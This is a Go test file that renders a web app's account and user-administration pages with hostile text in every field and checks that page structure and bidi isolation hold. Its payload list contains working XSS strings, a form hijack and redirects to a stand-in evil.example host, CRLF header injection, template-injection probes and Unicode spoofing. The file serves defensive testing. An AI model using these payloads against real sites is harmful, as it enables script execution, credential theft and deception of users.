package templates

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/a-h/templ"
	"golang.org/x/net/html"
)

// payloads is what an attribute of a user could hold: each tries to become markup, a link or script, or to mislead the
// reader.
var payloads = []struct{ name, text string }{
	{"element", `<b>bold</b>`},
	{"script", `<script>alert(1)</script>`},
	{"closes a script", `</script><script>alert(1)</script>`},
	{"closes a title", `</title><script>alert(1)</script>`},
	{"closes a style", `</style><style>*{display:none}</style>`},
	{"closes a textarea", `</textarea><img src=x onerror=alert(1)>`},
	{"closes the body", `</bdi></h1></main></body></html><iframe src="https://evil.example">`},
	{"leaves a double-quoted attribute", `"><svg onload=alert(1)>`},
	{"leaves a single-quoted attribute", `'><svg onload=alert(1)>`},
	{"adds an attribute, double quotes", `" autofocus onfocus="alert(1)`},
	{"adds an attribute, single quotes", `' autofocus onfocus='alert(1)`},
	{"adds an attribute, no quotes", ` onmouseover=alert(1) x=`},
	{"backquotes", "`onerror=alert(1)`"},
	{"slash for a space", `<img/src=x/onerror=alert(1)>`},
	{"form", `"></form><form action="https://evil.example" method="post"><input name="form_token">`},
	{"base", `<base href="https://evil.example/">`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`},
	{"link", `<link rel="stylesheet" href="https://evil.example/x.css">`},
	{"comment", `--><!--><script>alert(1)</script><!--`},
	{"processing instruction", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "v">]>`},
	{"CDATA", `<![CDATA[<script>alert(1)</script>]]>`},
	{"SVG", `<svg><style><img src=x onerror=alert(1)></style></svg>`},
	{"MathML", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
	{"unfinished tag", `<img src="`},
	{"entities", `&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#x3e;&quot;`},
	{"script address", `javascript:alert(1)`},
	{"script address, disguised", "\x01java\tscript:alert(1)"},
	{"data address", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`},
	{"network path", `//evil.example/`},
	{"template of Go", `{{.}}{{printf "%s" .FormToken}}`},
	{"template of others", `${7*7}#{7*7}<%= 7*7 %>{%raw%}[[7*7]]`},
	{"path", `../../auth/logout`},
	{"only dots", `..`},
	{"header", "x\r\nSet-Cookie: a=b\r\n\r\n<script>"},
	{"NUL", "a\x00<scr\x00ipt>alert(1)</script>"},
	{"reordering", "user\u202Emoc.elpmaxe@nimda\u202C"},
	{"isolates", "\u2066\u2067\u2068admin\u2069"},
	{"C1 controls", "a\u0085b\u009bc"},
	{"not UTF-8", "\xff\xfe<\xc0\xbcscript>"},
	{"overlong", "\xe0\x80\xbcscript\xe0\x80\xbe"},
	{"full width", "＜script＞alert(1)＜/script＞"},
	{"10 KB", strings.Repeat(`<b>"'`, 2048)},
	{"combining marks", "a" + strings.Repeat("\u0301", 3000)},
}

// hostileCase makes a page in which every text is the given one.
type hostileCase struct {
	name string
	page func(text string) templ.Component
}

var hostileCases = []hostileCase{
	{"home", func(text string) templ.Component { return Home(filled[HomeView](text)) }},
	{"confirm the address", func(text string) templ.Component { return ConfirmAddress(filled[ConfirmAddressView](text)) }},
	{"profile", func(text string) templ.Component { return Profile(filled[ProfileView](text)) }},
	{"sign-out", func(text string) templ.Component { return SignOut(filled[SignOutView](text)) }},
	{"signed-out", func(text string) templ.Component { return SignedOut(filled[SignedOutView](text)) }},
	{"delete-account", func(text string) templ.Component {
		v := filled[DeleteAccountView](text)
		v.IsAdmin, v.Stale = false, false
		return DeleteAccount(v)
	}},
	{"delete-account, of an administrator", func(text string) templ.Component { return DeleteAccount(filled[DeleteAccountView](text)) }},
	{"account-deleted", func(text string) templ.Component { return AccountDeleted(filled[AccountDeletedView](text)) }},
	{"failure", func(text string) templ.Component { return Failure(filled[FailureView](text)) }},
	{"users", func(text string) templ.Component { return Users(filled[UsersView](text)) }},
	{"user", func(text string) templ.Component {
		v := filled[UserView](text)
		v.IsSelf, v.Confirm = false, UserAction{}
		v.Actions = []UserAction{{Name: text, Label: "Delete"}, sampleAction} // all but the name is the site's own
		return User(v)
	}},
	{"user, confirmation", func(text string) templ.Component {
		v := filled[UserView](text)
		v.Confirm = UserAction{Name: text, Label: "Delete", Consequence: "It cannot be undone."}
		return User(v)
	}},
}

// filled is a view in which every string is the text, every list has two entries and everything else is set.
func filled[V any](text string) V {
	var view V
	fill(reflect.ValueOf(&view).Elem(), text)
	return view
}

func fill(v reflect.Value, text string) {
	switch v.Interface().(type) {
	case time.Time:
		v.Set(reflect.ValueOf(noon))
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int:
		v.SetInt(400)
	case reflect.Uint8: // the language
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		fill(v.Index(0), text)
		fill(v.Index(1), text)
	case reflect.Struct:
		for i := range v.NumField() {
			fill(v.Field(i), text)
		}
	default:
		panic("a view has a field of a kind that the test does not know: " + v.Kind().String())
	}
}

// TestHostileText_SEC090 compares the structure of each page for each payload with the one for a harmless text.
func TestHostileText_SEC090(t *testing.T) {
	for _, c := range hostileCases {
		want := structure(parsed(t, rendered(t, c.page("harmless"))))
		for _, payload := range payloads {
			t.Run(c.name+"/"+payload.name, func(t *testing.T) {
				document := parsed(t, rendered(t, c.page(payload.text)))
				if got := structure(document); !slices.Equal(got, want) {
					t.Errorf("the page's structure changed to\n%s", strings.Join(got, "\n"))
				}
				if !strings.Contains(text(document), strings.Join(strings.Fields(shown(payload.text)), " ")) {
					t.Error("the text is not shown")
				}
			})
		}
	}
}

// structure lists elements with the names of their attributes, and comments and declarations. Of an attribute that a
// browser follows it tells where it leads: to this site or away.
func structure(document *html.Node) []string {
	var lines []string
	for node := range document.Descendants() {
		switch node.Type {
		case html.ElementNode:
			line := node.Data
			for _, a := range node.Attr {
				line += " " + a.Key
				if a.Key == "href" || a.Key == "src" || a.Key == "action" {
					line += "=" + direction(a.Val)
				}
			}
			lines = append(lines, line)
		case html.CommentNode, html.DoctypeNode, html.RawNode:
			lines = append(lines, fmt.Sprintf("(%d) %s", node.Type, node.Data))
		}
	}
	return lines
}

func direction(address string) string {
	switch {
	case strings.HasPrefix(address, "#"):
		return "page"
	case strings.HasPrefix(address, "?"):
		return "site"
	case strings.HasPrefix(address, "/") && !strings.HasPrefix(address, "//") && !strings.HasPrefix(address, `/\`):
		return "site"
	}
	return address
}

// TestHostileBytes_SEC091 looks at the source itself: nothing in it misleads a reader, except in hidden fields.
func TestHostileBytes_SEC091(t *testing.T) {
	for _, c := range hostileCases {
		for _, payload := range payloads {
			t.Run(c.name+"/"+payload.name, func(t *testing.T) {
				source := rendered(t, c.page(payload.text))
				document := parsed(t, source)
				for node := range document.Descendants() {
					if node.Type == html.TextNode && strings.ContainsFunc(node.Data, misleadsOutsideSource) {
						t.Errorf("text %q", node.Data)
					}
					for _, a := range node.Attr {
						goesBack := value(node, "type") == "hidden" // nobody looks at it, and a kept form must come back as it was
						if !goesBack && strings.ContainsFunc(a.Val, misleads) {
							t.Errorf("attribute %s=%q", a.Key, a.Val)
						}
					}
				}
			})
		}
	}
}

// misleadsOutsideSource lets the line ends through that templ itself may write between elements.
func misleadsOutsideSource(r rune) bool { return r != '\n' && r != '\t' && misleads(r) }

// TestUserTextIsIsolated_SEC091 finds everything that users or administrators wrote in a <bdi>, a field or the window's
// title.
func TestUserTextIsIsolated_SEC091(t *testing.T) {
	const marker = "mark@example.com"
	l := Layout{SignedInAs: marker}
	pages := []sample{
		{"home", Home(HomeView{Layout: l})},
		{"profile", Profile(ProfileView{Layout: l, Email: marker, Subject: marker, Groups: []string{marker, marker}})},
		{"sign-out", SignOut(SignOutView{l})},
		{"delete-account", DeleteAccount(DeleteAccountView{Layout: l, Subject: marker})},
		{"failure", Failure(FailureView{Layout: l, Status: 404, Heading: "There is no such page."})},
		{"users", Users(UsersView{Layout: l, Rows: []UserRow{{Subject: marker, Email: marker, Status: "CONFIRMED"}}})},
		{"user", User(UserView{Layout: l, Subject: sampleSubject, Username: marker, Email: marker,
			Groups: []string{marker}})},
		{"confirmation", User(UserView{Layout: l, Subject: marker, Email: marker, Confirm: sampleAction})},
	}
	for _, page := range pages {
		t.Run(page.name, func(t *testing.T) {
			found := 0
			for node := range parsed(t, rendered(t, page.page)).Descendants() {
				if node.Type != html.TextNode || !strings.Contains(node.Data, marker) {
					continue
				}
				if found++; !inside(node, "bdi") {
					t.Errorf("%q stands in <%s>, not in <bdi>", node.Data, node.Parent.Data)
				}
			}
			if found == 0 {
				t.Error("the text is not on the page")
			}
		})
	}
}

// TestSubjectStandsByEveryName_SEC091: two users may choose addresses that look alike.
func TestSubjectStandsByEveryName_SEC091(t *testing.T) {
	confirm := sampleUser()
	confirm.Confirm = sampleAction
	for name, page := range map[string]templ.Component{"users": Users(sampleUsers()), "user": User(sampleUser()),
		"confirmation": User(confirm), "own account": DeleteAccount(sampleDeletion())} {
		t.Run(name, func(t *testing.T) {
			if !strings.Contains(text(parsed(t, rendered(t, page))), sampleSubject) {
				t.Error("the sub is missing")
			}
		})
	}
}
